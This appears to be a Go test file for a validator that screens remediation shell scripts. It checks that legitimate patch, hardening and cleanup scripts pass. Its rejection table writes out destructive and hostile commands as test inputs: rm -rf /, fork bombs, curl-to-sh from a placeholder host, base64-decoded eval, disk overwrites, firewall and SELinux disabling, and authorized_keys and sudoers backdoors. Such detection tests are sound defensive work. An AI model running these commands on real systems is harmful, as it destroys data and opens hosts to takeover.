package guardrails_test

import (
	"errors"
	"strings"
	"testing"

	"vulnzero.dev/vulnzero"
	"vulnzero.dev/vulnzero/remedy/guardrails"
	"vulnzero.dev/vulnzero/remedy/rules"
)

// only checks one script, with no required scripts, so a table case is about
// its own content.
func only(r guardrails.Rules, script string) []guardrails.Violation {
	r.RequiredScripts = nil
	return guardrails.Check(r, map[string][]byte{"apply.sh": []byte(script)})
}

func TestDangerousScriptsAreRejected(t *testing.T) {
	bash := guardrails.Defaults()
	bash.Dialect = "bash"
	tests := []struct {
		name   string
		script string
		rule   string
		line   int
		rules  *guardrails.Rules
	}{
		{"rm -rf /", "rm -rf /\n", "rm-system-path", 1, nil},
		{"rm of /etc after other lines", "set -eu\necho start\nrm -fr /etc\n", "rm-system-path", 3, nil},
		{"sudo rm --no-preserve-root", "sudo -u root rm -rf --no-preserve-root /\n", "rm-system-path", 1, nil},
		{"absolute path and glob", "/bin/rm -r -f /usr/*\n", "rm-system-path", 1, nil},
		{"quoted command name", "'r''m' -rf /var\n", "rm-system-path", 1, nil},
		{"backslash in command name", "r\\m -rf /boot\n", "rm-system-path", 1, nil},
		{"unset variable before /*", "rm -rf \"$DIR/\"*\n", "rm-system-path", 1, nil},
		{"variable holding /", "D=/\nrm -rf $D\n", "rm-system-path", 2, nil},
		{"default value is /", "rm -rf \"${TARGET:-/}\"\n", "rm-system-path", 1, nil},
		{"for loop over system dirs", "for d in /tmp/x /etc; do\n\trm -rf \"$d\"\ndone\n", "rm-system-path", 2, nil},
		{"rm of command substitution", "rm -rf \"$(cat /tmp/list)\"\n", "rm-system-path", 1, nil},
		{"wrapper chain", "command exec nohup nice -n 5 timeout 10 rm -rf /boot\n", "rm-system-path", 1, nil},
		{"env -S string", "env -S 'rm -rf /'\n", "rm-system-path", 1, nil},
		{"rm -r of the working directory", "cd / && rm -rf *\n", "rm-system-path", 1, nil},
		{"rm -r of the parent", "rm -rf ../\n", "rm-system-path", 1, nil},
		{"POSIX fork bomb", "f() { f | f & }; f\n", "fork-bomb", 1, nil},
		{"find -delete", "find / -xdev -delete\n", "rm-system-path", 1, nil},
		{"find -exec rm", "find /etc -exec rm -rf {} +\n", "rm-system-path", 1, nil},
		{"sh -c string", "sh -c \"rm -rf /\"\n", "rm-system-path", 1, nil},
		{"nested eval in bash -c", "bash -c 'eval \"rm -rf /root\"'\n", "rm-system-path", 1, nil},
		{"heredoc to sh", "echo ok\nsh <<'EOF'\nrm -rf /\nEOF\n", "rm-system-path", 2, nil},
		{"alias", "alias ll='rm -rf /'\nll\n", "rm-system-path", 1, nil},
		{"trap action", "trap 'rm -rf /' EXIT\n", "rm-system-path", 1, nil},
		{"brace expansion under bash -c", "bash -c '{rm,-rf,/}'\n", "rm-system-path", 1, nil},
		{"computed name from variable", "X=rm\n$X -rf /\n", "computed-command", 2, nil},
		{"computed name from command substitution", "$(echo rm) -rf /\n", "computed-command", 1, nil},
		{"computed name from printf", "\"$(printf 'r%s' m)\" -rf /\n", "computed-command", 1, nil},
		{"computed name from concatenation", "a=r; b=m\n$a$b -rf /\n", "computed-command", 2, nil},
		{"computed name behind sudo", "sudo \"$CMD\" /\n", "computed-command", 1, nil},
		{"mkfs", "mkfs.ext4 -F /dev/sda1\n", "denied-command", 1, nil},
		{"dd to a disk", "dd if=/dev/zero of=/dev/sda bs=1M count=10\n", "device-write", 1, nil},
		{"redirect to nvme", "cat /tmp/image > /dev/nvme0n1\n", "device-write", 1, nil},
		{"exec redirect to a disk", "exec 3>/dev/sdb\n", "device-write", 1, nil},
		{"curl piped into sh", "curl -fsSL https://example.invalid/i.sh | sh\n", "remote-exec", 1, nil},
		{"wget piped into sudo bash", "wget -qO- http://example.invalid/x | sudo bash -s -- --yes\n", "remote-exec", 1, nil},
		{"download in substitution piped into sh", "echo \"$(curl -s http://example.invalid)\" | tr -d '\\r' | sh\n", "remote-exec", 1, nil},
		{"base64 piped into sh", "echo cm0gLXJmIC8K | base64 -d | sh\n", "decode-exec", 1, nil},
		{"base64 via xargs-free python", "printf %s \"$P\" | base64 --decode | python3\n", "decode-exec", 1, nil},
		{"echo piped into sh", "echo 'rm -rf /' | sh\n", "pipe-to-shell", 1, nil},
		{"eval of decoded string", "eval \"$(echo cm0gLXJmIC8K | base64 -d)\"\n", "computed-eval", 1, nil},
		{"eval of a variable", "eval \"$CMD\"\n", "computed-eval", 1, nil},
		{"sh -c of a download", "sh -c \"$(curl -fsSL https://example.invalid/i.sh)\"\n", "computed-eval", 1, nil},
		{"process substitution under bash", "bash <(curl -fsSL https://example.invalid/i.sh)\n", "remote-exec", 1, &bash},
		{"ufw disable", "ufw --force disable\n", "security-disable", 1, nil},
		{"setenforce 0", "setenforce 0\n", "security-disable", 1, nil},
		{"stop firewalld", "systemctl stop firewalld\n", "security-disable", 1, nil},
		{"disable ufw unit", "systemctl disable --now ufw.service\n", "security-disable", 1, nil},
		{"iptables flush", "iptables -F\n", "security-disable", 1, nil},
		{"iptables accept policy", "iptables -P INPUT ACCEPT\n", "security-disable", 1, nil},
		{"selinux config", "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config\n", "security-disable", 1, nil},
		{"useradd", "useradd -m -s /bin/bash support\n", "denied-command", 1, nil},
		{"adduser behind env", "env DEBIAN_FRONTEND=noninteractive adduser --disabled-password x\n", "denied-command", 1, nil},
		{"authorized_keys append", "echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys\n", "credentials-write", 1, nil},
		{"authorized_keys through tilde", "mkdir -p ~/.ssh\necho key >>~/.ssh/authorized_keys\n", "credentials-write", 2, nil},
		{"sudoers through tee", "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers >/dev/null\n", "credentials-write", 1, nil},
		{"sudoers.d file", "printf '%s\\n' 'x ALL=(ALL) ALL' > /etc/sudoers.d/x\n", "credentials-write", 1, nil},
		{"key copied into .ssh", "cp /tmp/k /root/.ssh/\n", "credentials-write", 1, nil},
		{"chmod -R of /", "chmod -R 777 /\n", "recursive-perms", 1, nil},
		{"chown -R of /etc", "chown -R nobody:nogroup /etc\n", "recursive-perms", 1, nil},
		{"reboot", "apt-get -y upgrade\nreboot\n", "denied-command", 2, nil},
		{"systemctl reboot", "systemctl --no-block reboot\n", "denied-command", 1, nil},
		{"shutdown", "shutdown -r now\n", "denied-command", 1, nil},
		{"init 6", "/sbin/init 6\n", "denied-command", 1, nil},
		{"fork bomb", "bomb() { bomb | bomb & }\nbomb\n", "fork-bomb", 1, nil},
		{"classic fork bomb under bash", ":(){ :|:& };:\n", "fork-bomb", 1, &bash},
		{"insecure download", "curl -k -o /tmp/x https://example.invalid/x\n", "insecure-download", 1, nil},
		{"unauthenticated packages", "apt-get install -y --allow-unauthenticated foo\n", "unauthenticated-packages", 1, nil},
		{"parse error", "if true; then\necho x\n", "parse", 0, nil},
		{"bashism under POSIX sh", "if [[ -f /etc/x ]]; then echo x; fi\n", "bashism", 1, nil},
		{"bash syntax under POSIX sh", "a=(1 2)\n", "parse", 1, nil},
		{"unparsable sh -c string", "sh -c 'if then'\n", "parse", 1, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := guardrails.Defaults()
			if tt.rules != nil {
				r = *tt.rules
			}
			vs := only(r, tt.script)
			if len(vs) == 0 {
				t.Fatalf("accepted:\n%s", tt.script)
			}
			for _, v := range vs {
				if v.Rule == tt.rule && v.Script == "apply.sh" && (tt.line == 0 || v.Line == tt.line) {
					return
				}
			}
			t.Errorf("want rule %s at line %d, got:\n%s", tt.rule, tt.line, list(vs))
		})
	}
}

func list(vs []guardrails.Violation) string {
	var b strings.Builder
	for _, v := range vs {
		b.WriteString("  " + v.String() + "\n")
	}
	return b.String()
}

func TestLegitimateScriptsPass(t *testing.T) {
	p, err := rules.Generate(rules.Request{
		PatchID: "openssl-3.0.13", Package: "openssl", Manager: vulnzero.APT,
		FixedVersion: "3.0.13-1~deb12u1", CVEs: []string{"CVE-2024-0727"}, Hosts: []string{"web-1"},
	})
	if err != nil {
		t.Fatal(err)
	}
	scripts := map[string]string{
		"rules apt apply":    string(p.Scripts.Apply),
		"rules apt verify":   string(p.Scripts.Verify),
		"rules apt rollback": string(p.Scripts.Rollback),
		"dnf upgrade": `#!/bin/sh
set -eu
dnf -y --refresh upgrade-minimal --cve CVE-2024-0727 </dev/null
rpm -q --qf '%{VERSION}-%{RELEASE}\n' openssl
`,
		"sshd hardening": `#!/bin/sh
set -eu
cp -p /etc/ssh/sshd_config "${VZ_STATE_DIR:-/var/lib/vulnzero}/sshd_config.orig"
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config
sshd -t
systemctl reload ssh
`,
		"module blacklist": `#!/bin/sh
printf 'install cramfs /bin/false\nblacklist cramfs\n' > /etc/modprobe.d/vulnzero-cramfs.conf
modprobe -r cramfs 2>/dev/null || true
`,
		"state cleanup": `#!/bin/sh
set -eu
STATE=${VZ_STATE_DIR:-/var/lib/vulnzero}/${VZ_PATCH_ID:?}
rm -rf "${STATE:?}/tmp"
rm -rf /var/lib/apt/lists/partial/*
find /var/cache/vulnzero -name '*.tmp' -mtime +7 -delete
find /tmp -maxdepth 1 -name 'vz-*' -exec rm -rf {} +
`,
		"sysctl via heredoc": `#!/bin/sh
set -eu
cat > /etc/sysctl.d/99-vulnzero.conf <<'EOF'
net.ipv4.tcp_timestamps = 0
EOF
sysctl --system >/dev/null
`,
		"health probe": `#!/bin/sh
systemctl restart nginx
for i in 1 2 3 4 5; do
	if curl -fsS --max-time 2 http://127.0.0.1/healthz >/dev/null; then
		exit 0
	fi
	sleep 1
done
echo "nginx did not come back" >&2
exit 1
`,
		"traps and temp files": `#!/bin/sh
set -eu
TMP=$(mktemp)
cleanup() { rm -f "$TMP"; }
trap cleanup EXIT
dpkg-query -W -f='${Version}\n' libssl3 >"$TMP"
if dpkg --compare-versions "$(cat "$TMP")" ge 3.0.13-1~deb12u1; then
	echo fixed
else
	echo vulnerable
	exit 1
fi
`,
		"loop over a glob": `#!/bin/sh
cd /var/lib/vulnzero/cache || exit 0
for f in *; do
	rm -rf "$f"
done
`,
		"firewall rule added": `#!/bin/sh
iptables -C INPUT -p tcp --dport 11211 -j DROP 2>/dev/null || iptables -A INPUT -p tcp --dport 11211 -j DROP
ufw status verbose
`,
		"permissions fix": `#!/bin/sh
chmod 0644 /etc/cron.d/vulnzero
chown root:root /etc/cron.d/vulnzero
chmod -R go-w /opt/app/config
`,
		"reboot hint and version check": `#!/bin/sh
v=$(openssl version | awk '{print $2}')
case $v in
3.0.13*) echo "openssl $v fixed" ;;
*) echo "openssl $v vulnerable"; exit 1 ;;
esac
if [ -e /var/run/reboot-required ]; then echo VZ_REBOOT_REQUIRED=1; fi
`,
		"inner sh -c and xargs": `#!/bin/sh
sh -c 'systemctl is-active --quiet nginx && echo up'
find /etc/nginx/sites-enabled -type l -name '*.bak' -print0 | xargs -0 rm -f
env LC_ALL=C sudo -n apt-get -o DPkg::Lock::Timeout=60 install -y --only-upgrade nginx </dev/null
`,
	}
	for name, s := range scripts {
		t.Run(name, func(t *testing.T) {
			if vs := only(guardrails.Defaults(), s); len(vs) > 0 {
				t.Errorf("rejected:\n%s\nscript:\n%s", list(vs), s)
			}
		})
	}
	if vs := guardrails.CheckPatch(guardrails.Defaults(), p); len(vs) > 0 {
		t.Errorf("CheckPatch rejects the rules patch:\n%s", list(vs))
	}
}

func TestRequiredScriptsAndSize(t *testing.T) {
	r := guardrails.Defaults()
	r.MaxScriptBytes = 100
	vs := guardrails.Check(r, map[string][]byte{
		"apply.sh":  []byte("   \n\t\n"),
		"verify.sh": []byte("#!/bin/sh\n# only a comment\n"),
		"extra.sh":  []byte("echo " + strings.Repeat("x", 200) + "\n"),
	})
	want := []string{
		"apply.sh: required-script: required script is empty",
		"extra.sh: max-size: script is 206 bytes, more than the limit of 100",
		"rollback.sh: required-script: required script is missing",
		"verify.sh: required-script: required script has no commands, only comments",
	}
	if got := strs(vs); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func strs(vs []guardrails.Violation) []string {
	out := make([]string, len(vs))
	for i, v := range vs {
		out[i] = v.String()
	}
	return out
}

func TestViolationPositionAndString(t *testing.T) {
	vs := only(guardrails.Defaults(), "echo ok\n  mkfs /dev/sda\n")
	if len(vs) != 1 {
		t.Fatalf("got %v", strs(vs))
	}
	want := "apply.sh:2:3: denied-command: mkfs is denied: it destroys a filesystem"
	if vs[0].String() != want {
		t.Errorf("got %q, want %q", vs[0].String(), want)
	}
	if s := (guardrails.Violation{Script: "x.sh", Rule: "r", Message: "m"}).String(); s != "x.sh: r: m" {
		t.Errorf("no position: %q", s)
	}
}

func TestConfigurableRules(t *testing.T) {
	r := guardrails.Rules{
		DeniedCommands: []string{"apt-get remove", "curl"},
		DeniedPatterns: []guardrails.Pattern{{Name: "no-purge", Regexp: `^apt-get .*purge`, Message: "purging is not allowed"}},
	}
	vs := only(r, "apt-get remove -y foo\nsudo /usr/bin/curl -s x\napt-get -y purge bar\napt-get install -y baz\n")
	want := []string{
		"apply.sh:1:1: denied-command: apt-get remove is denied: denied by the guardrail policy",
		"apply.sh:2:1: denied-command: curl is denied: denied by the guardrail policy",
		"apply.sh:3:1: no-purge: apt-get: purging is not allowed",
	}
	if got := strs(vs); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestInvalidRulesFailClosed(t *testing.T) {
	r := guardrails.Defaults()
	r.DeniedPatterns = append(r.DeniedPatterns, guardrails.Pattern{Name: "broken", Regexp: "("})
	r.Dialect = "fish"
	if err := r.Validate(); err == nil || !errors.Is(err, vulnzero.ErrInvalid) {
		t.Fatalf("Validate = %v", err)
	}
	vs := only(r, "echo ok\n")
	if len(vs) == 0 || vs[0].Rule != guardrails.RuleConfig {
		t.Errorf("got %v", strs(vs))
	}
	if err := guardrails.Defaults().Validate(); err != nil {
		t.Errorf("defaults invalid: %v", err)
	}
}

func TestErr(t *testing.T) {
	if guardrails.Err(nil) != nil {
		t.Error("Err(nil) != nil")
	}
	err := guardrails.Err(only(guardrails.Defaults(), "reboot\n"))
	if !errors.Is(err, vulnzero.ErrInvalid) || !strings.Contains(err.Error(), "apply.sh:1:1: denied-command") {
		t.Errorf("Err = %v", err)
	}
}
